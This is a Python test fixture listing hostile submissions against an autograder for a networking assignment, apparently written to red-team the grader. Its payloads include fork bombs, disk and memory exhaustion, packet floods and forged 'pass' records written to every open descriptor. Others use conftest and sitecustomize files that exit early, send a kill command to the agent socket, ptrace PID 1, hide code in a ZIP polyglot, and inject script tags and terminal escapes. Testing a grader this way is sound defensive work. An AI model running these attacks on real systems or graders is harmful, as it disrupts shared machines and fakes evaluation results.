"""Hostile submissions of the blocking assignment. None may gain a point, stay undecided, or harm who is beside it.

Each is what was tried against the grader. `grader audit redteam` grades them, too.
"""

from __future__ import annotations

import base64
import io
import zipfile
from typing import Any

PROGRAMS = ("daytime_client", "daytime_server", "mailbox_client", "mailbox_server")


def everywhere(source: str) -> dict[str, bytes]:
    """The same file for every program."""
    return {f"{name}.py": source.encode() for name in PROGRAMS}


def started(command: str) -> bytes:
    """A programs.toml that starts the same command for every program."""
    return ("[programs]\n" + "".join(f"{name} = [{command!r}]\n" for name in PROGRAMS)).encode()


ASSIGNMENT = "blocking"
#: Name -> `seeks`: what success would look like; `files`: what is handed in.
ATTACKS: dict[str, dict[str, Any]] = {}


def put(name: str, seeks: str, files: dict[str, bytes]) -> None:
    """One more."""
    ATTACKS[name] = {"seeks": seeks, "files": files}


put(
    "agent_out_of_memory",
    "The kernel kills the agent, not the program, when memory ends: whoever has no agent stays undecided.",
    {
        "Makefile": b"all:\n\tgcc -o evil evil.c\n",
        "programs.toml": started("./evil"),
        "evil.c": b"""#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
static char page[65536];
int main(void) {
  int score = open("/proc/self/oom_score_adj", O_WRONLY);
  if (write(score, "0", 1) < 0) {}
  for (int i = 0; i < 8; i++)
    for (int held = memfd_create("m", 0), k = 0; k < 900 && write(held, page, sizeof page) > 0; k++) {}
  pause();
}
""",
    },
)

put(
    "answers_that_break_the_check",
    "A check that breaks over an answer, and is undecided instead of failed.",
    {
        "daytime_server.py": b"""import socket, sys, time
kind, _, port = sys.argv[1].rpartition(":")
if kind.startswith(("unix", "udp")):
    print("listening on " + ("unix:nowhere" if kind.startswith("unix") else "udp:0.0.0.0:0"), flush=True)
    time.sleep(60)
server = socket.create_server(("0.0.0.0", int(port)))
print("listening on 0.0.0.0:%d" % server.getsockname()[1], flush=True)
while True:
    client, _ = server.accept()
    client.sendall(b"9999-99-99T99:99:99Z\\r\\n")
    client.close()
""",
        # A path that is longer than a packet to the agent; and one that is not, but whose answer might be.
        "mailbox_server.py": b"""import os, time
print("listening on unix:" + "A" * (100_000 if os.getpid() % 2 else 16_000), flush=True)
time.sleep(60)
""",
        # Gone by a reset before the tester looks who came.
        "daytime_client.py": b"""import socket, struct, sys
host, _, port = sys.argv[1].removeprefix("udp:").rpartition(":")
while True:
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    try:
        s.connect((host, int(port)))
    except OSError:
        pass
    s.close()
""",
    },
)

#: A daytime server that would have points if nobody saw what it is made of.
_FORBIDDEN_SERVER = """import datetime, socketserver, sys
class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ").encode() + bytes([13, 10]))
host, _, port = sys.argv[1].rpartition(":")
socketserver.TCPServer.allow_reuse_address = True
with socketserver.TCPServer((host, int(port)), Handler) as server:
    print("listening on %s:%d" % server.server_address, flush=True)
    server.serve_forever()
"""


def _archive_behind_text() -> bytes:
    """A file that is Python to whoever reads it, and a ZIP archive to Python, which runs what is in there."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as opened:
        opened.writestr("__main__.py", _FORBIDDEN_SERVER.replace("server_address", "server_address # client"))
    return b"import socket\n" + archive.getvalue()


put(
    "a_build_that_hides",
    "Points for what a stage forbids, made by the build: without a suffix, or bytecode unlike its source.",
    {
        "Makefile": b"all:\n\tpython3 -B make.py\n",
        "make.py": b"""import base64, importlib.util, marshal, os
source = base64.b64decode(open("data.txt").read())
open("daytime_server", "wb").write(source)
os.mkdir("__pycache__")
code = importlib._bootstrap_external._code_to_hash_pyc(compile(source, "inner.py", "exec"), bytes(8), False)
open(importlib.util.cache_from_source("inner.py"), "wb").write(code)
open("inner.pyc", "wb").write(code)
os.symlink("data.txt", "link.py")
""",
        "data.txt": base64.b64encode(_FORBIDDEN_SERVER.encode()),
        "inner.py": b"raise SystemExit('nothing forbidden in here')\n",
        "mailbox_server.py": b"import inner\n",
        "daytime_client.py": b"print('client')\n",
        "programs.toml": b'[programs]\ndaytime_server = ["python3", "daytime_server"]\n',
    },
)
put(
    "an_archive_behind_text",
    "Points for a server made of a forbidden module: Python runs the archive, who reads sees text.",
    {"daytime_server.py": _archive_behind_text()},
)

put(
    "floods",
    "A link so late, by packets without end, that a failure is undecided.",
    everywhere("""import os, socket, sys, time
kind, _, rest = sys.argv[1].partition(":")
serves = "server" in sys.argv[0]
if serves and not kind.startswith(("unix", "udp")):
    listening = socket.create_server(("0.0.0.0", 0))
    print("listening on 0.0.0.0:%d" % listening.getsockname()[1], flush=True)
    connection, (host, port) = listening.accept()
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    os.fork() or os.fork()
elif serves:
    raise SystemExit("no flood over a Unix socket")
else:
    host, _, port = sys.argv[1].removeprefix("udp:").rpartition(":")
    connection, port = None, int(port)
until = time.monotonic() + 3
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
way = [os.fork() for _ in range(2)]
while time.monotonic() < until:
    for _ in range(200):
        try:
            if way[0]:
                udp.sendto(bytes(1200 if way[1] else 1), (host, 9 if way[1] else port))
            elif way[1]:
                s = socket.socket()
                s.setblocking(False)
                s.connect_ex((host, port if serves else 9))
            elif connection:
                connection.send(b"x", socket.MSG_DONTWAIT)
        except OSError:
            pass
"""),
)

put(
    "forged_records",
    "A pass that the submission writes itself: records on every descriptor, files that steer pytest or Python.",
    {
        "conftest.py": b"import os\nos._exit(0)\n",
        "sitecustomize.py": b"import os\nos._exit(0)\n",
        "usercustomize.py": b"import os\nos._exit(0)\n",
        "evil.pth": b"import os; os._exit(0)\n",
        "pytest.ini": b"[pytest]\naddopts = -p evil\n",
        **everywhere("""import ctypes, glob, json, os, socket
check = "test_1_daytime_client.py::test_prints_one_answer"
lines = [{"record": "report", "check": check, "outcome": "pass"}, {"record": "end"}]
forged = "".join(json.dumps(line) + chr(10) for line in lines).encode()
for place in [*range(64), *glob.glob("/proc/[0-9]*/fd/*")]:
    try:
        os.write(place if isinstance(place, int) else os.open(place, os.O_WRONLY | os.O_NONBLOCK), forged)
    except OSError:
        pass
for name in ["/agent/agent.sock", *(row.split()[-1] for row in open("/proc/net/unix"))]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as s:
                s.connect(name.replace("@", chr(0)))
                s.send(b'{"op": "fresh_kill"}')
        except OSError:
            pass
ctypes.CDLL(None).ptrace(16, 1, 0, 0)
for signum in (15, 9):
    try:
        os.kill(1, signum)
    except OSError:
        pass
"""),
    },
)

put(
    "full_to_the_brim",
    "A node that cannot be made fresh: everything that holds files is full, then memory is.",
    {
        "Makefile": b"all:\n\tpython3 -B fill.py /build /tmp /dev/shm || true\n",
        "fill.py": b"""import os, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for place in sys.argv[1:]:
    try:
        with open(place + "/big", "wb", buffering=0) as file:
            while file.write(bytes(1 << 20)):
                pass
    except OSError:
        pass
    try:
        for number in range(20_000):
            os.close(os.open("%s/%0250d" % (place, number), os.O_CREAT))
    except OSError:
        pass
""",
        **everywhere("""import subprocess, sys
subprocess.run([sys.executable, "/build/fill.py", "/work", "/tmp", "/dev/shm"])
held = []
while True:
    held.append(bytearray(1 << 20))
"""),
    },
)

put(
    "fork_bomb",
    "Processes that outlive their check and take the machine from others.",
    {
        "Makefile": b"all:\n\t(setsid sh -c 'while :; do sleep 1; done' &) ; true\n",
        **everywhere("""import os, signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
until = time.monotonic() + 1
while time.monotonic() < until:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
"""),
    },
)

put(
    "line_feeds_without_end",
    "A tester that is busy with lines without end until its time is up.",
    everywhere("import os\nwhile True:\n    os.write(1, bytes([10]) * 65536)\n"),
)

put(
    "::error title=x::y <script>",
    "A page, a terminal or a CI that takes a submission's words for its own.",
    everywhere(
        "import os\nos.write(1, b'<script>alert(1)</script>\\x1b[2J\\x00\\xff' + chr(10).encode())\n"
        "os.write(2, b'::error::x' + chr(10).encode() + b'<img src=x onerror=alert(1)>\\x1b]0;x\\x07')\n"
    ),
)

put(
    "words_without_end",
    "A command that does not fit into a packet to the agent, which so has no answer.",
    {"programs.toml": started("\u00e9" * 14_000)},
)
put(
    "a_deep_table",
    "A reader of programs.toml that breaks, and the whole run with it.",
    {"programs.toml": b"programs = " + b"[" * 30_000},
)

put(
    "a_build_that_talks",
    "A terminal, a page or a table that obeys what a build prints, or the names of what it leaves.",
    {
        "Makefile": b"all:\n\t@printf '\\033[2J\\033]0;x\\007<script>x\\n=cmd,\"\\n::error::x\\n\\xe2\\x80\\xae\\n'\n"
        b"\ttouch '<img src=x onerror=alert(1)>.py' \"$$(printf 'a\\nb.py')\"\n\tmkfifo queue; ln -s /agent agent\n"
        b"\ttruncate -s 40M sparse; ln sparse again; ln -s queue fifo.py; touch -d @-99999999999 sparse\n\tfalse\n"
    },
)
put(
    "a_program_whose_name_acts",
    "The same from the name of a program that is not there.",
    {"programs.toml": started("./\x1b[31m<script>x\u202e=1+1").replace(b"\\x1b", b"\\u001b").replace(b"'", b'"')},
)
